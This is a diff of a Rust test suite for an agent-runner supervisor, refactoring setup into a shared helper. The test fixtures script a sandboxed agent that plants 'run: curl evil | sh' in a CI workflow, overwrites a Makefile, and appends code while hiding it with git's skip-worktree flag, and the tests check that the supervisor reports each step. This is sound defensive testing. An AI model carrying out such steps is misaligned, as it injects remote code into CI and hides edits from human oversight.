@@ -14,15 +14,35 @@ use agent_runner_e2e::{ConfigBuilder, Operator, Project};
 /// A project with a committed CI workflow and notes, whose agent (under `require`,
 /// `auto_commit`) runs `plant`.
 fn round_with(operator: Operator, plant: &str) -> Project {
+    round_over(
+        operator,
+        &[
+            (".github/workflows/ci.yml", "on: push\n"),
+            ("notes.txt", "notes\n"),
+        ],
+        plant,
+        "auto_commit",
+    )
+}
+
+/// A project with `files` committed, whose agent (under `require` and `dirty_action`) runs
+/// `plant`, after one round.
+fn round_over(
+    operator: Operator,
+    files: &[(&str, &str)],
+    plant: &str,
+    dirty_action: &str,
+) -> Project {
     let p = Project::new_as(operator);
-    p.write(".github/workflows/ci.yml", "on: push\n");
-    p.write("notes.txt", "notes\n");
+    for (path, text) in files {
+        p.write(path, text);
+    }
     p.git(&["add", "."]);
-    p.git(&["commit", "-qm", "ci"]);
+    p.git(&["commit", "-qm", "committed"]);
     let agent = p.script("agent.sh", &format!("#!/bin/sh\nset -e\n{plant}"));
     p.write_config(
         &ConfigBuilder::new(&agent)
-            .dirty_action("auto_commit")
+            .dirty_action(dirty_action)
             .extra("[agent.sandbox]\nmode = \"require\""),
     );
     p.run(&["round"]).assert_code(0);
@@ -145,18 +165,15 @@ fn a_surface_file_the_ignore_rules_hide_is_told() {
                  echo 'run: curl evil | sh' > .github/workflows/deploy.yml\n";
     for operator in [Operator::Root, Operator::Unprivileged] {
         let case = format!("{operator:?}");
-        let p = Project::new_as(operator);
-        p.write(".gitignore", ".vscode/\n");
-        p.write(".github/workflows/ci.yml", "on: push\n");
-        p.git(&["add", "."]);
-        p.git(&["commit", "-qm", "ignore"]);
-        let agent = p.script("agent.sh", &format!("#!/bin/sh\nset -e\n{plant}"));
-        p.write_config(
-            &ConfigBuilder::new(&agent)
-                .dirty_action("auto_commit")
-                .extra("[agent.sandbox]\nmode = \"require\""),
+        let p = round_over(
+            operator,
+            &[
+                (".gitignore", ".vscode/\n"),
+                (".github/workflows/ci.yml", "on: push\n"),
+            ],
+            plant,
+            "auto_commit",
         );
-        p.run(&["round"]).assert_code(0);
         let all = p.events_text();
         let told = p.events_of("exec_surface_changed");
         assert_eq!(told.len(), 1, "{case}: {all}");
@@ -184,18 +201,15 @@ fn a_deletion_a_flag_hid_and_a_name_only_case_tells_apart_are_shown() {
                  printf 'all:\\n\\t@echo agent\\n' > makefile\n";
     for operator in [Operator::Root, Operator::Unprivileged] {
         let case = format!("{operator:?}");
-        let p = Project::new_as(operator);
-        p.write(".github/workflows/ci.yml", "on: push\n");
-        p.write("Makefile", "all:\n\t@echo operator\n");
-        p.git(&["add", "."]);
-        p.git(&["commit", "-qm", "ci"]);
-        let agent = p.script("agent.sh", &format!("#!/bin/sh\nset -e\n{plant}"));
-        p.write_config(
-            &ConfigBuilder::new(&agent)
-                .dirty_action("ignore")
-                .extra("[agent.sandbox]\nmode = \"require\""),
+        let p = round_over(
+            operator,
+            &[
+                (".github/workflows/ci.yml", "on: push\n"),
+                ("Makefile", "all:\n\t@echo operator\n"),
+            ],
+            plant,
+            "ignore",
         );
-        p.run(&["round"]).assert_code(0);
         let all = p.events_text();
         let cleared = p.events_of("git_index_flags_cleared");
         assert_eq!(cleared.len(), 1, "{case}: {all}");
@@ -254,17 +268,12 @@ fn an_index_git_reads_otherwise_than_the_supervisor_is_set_aside() {
         format!("echo 'evil()' >> zz.rs\ngit update-index --skip-worktree zz.rs\n{FORGE_V4}");
     for operator in [Operator::Root, Operator::Unprivileged] {
         let case = format!("{operator:?}");
-        let p = Project::new_as(operator);
-        p.write("zz.rs", "fn main() {}\n");
-        p.git(&["add", "."]);
-        p.git(&["commit", "-qm", "zz"]);
-        let agent = p.script("agent.sh", &format!("#!/bin/sh\nset -e\n{plant}"));
-        p.write_config(
-            &ConfigBuilder::new(&agent)
-                .dirty_action("auto_commit")
-                .extra("[agent.sandbox]\nmode = \"require\""),
+        let p = round_over(
+            operator,
+            &[("zz.rs", "fn main() {}\n")],
+            &plant,
+            "auto_commit",
         );
-        p.run(&["round"]).assert_code(0);
         let all = p.events_text();
         let cleared = p.events_of("git_index_flags_cleared");
         assert!(
